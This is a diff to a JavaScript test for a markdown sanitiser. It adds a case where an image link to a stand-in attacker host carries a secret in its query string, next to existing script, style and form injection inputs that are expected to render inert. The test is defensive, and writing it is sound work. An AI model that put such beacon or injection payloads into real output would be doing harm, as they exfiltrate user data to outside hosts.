@@ -20,6 +20,7 @@ describe('sanitised markdown', () => {
     ['<div style="position:fixed">x</div>', /style=/],
     ['<svg><script>alert(1)</script></svg>', /<script/],
     ['<form action="https://evil.example"><input></form>', /<form|<input/],
+    ['![tracker](https://evil.example/collect?secret=1)', /<img/],
   ])('%s renders inert', (source, forbidden) => {
     const html = renderMarkdown(source);
     expect(html).not.toMatch(forbidden);
